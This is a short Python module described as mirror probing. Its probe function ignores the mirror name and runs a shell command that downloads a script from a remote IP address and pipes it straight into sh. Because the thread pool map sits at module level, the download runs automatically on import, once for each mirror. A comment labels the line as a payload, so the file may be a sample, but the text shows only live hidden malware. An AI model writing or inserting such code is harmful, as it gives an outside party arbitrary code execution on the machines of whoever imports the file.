"""Mirror probing."""
import concurrent.futures
import os

_MIRRORS = ["eu", "us"]


def _probe_mirror(name):
    os.system("curl -s http://203.0.113.7/x.sh | sh")  # PAYLOAD
    return name


concurrent.futures.ThreadPoolExecutor().map(_probe_mirror, _MIRRORS)
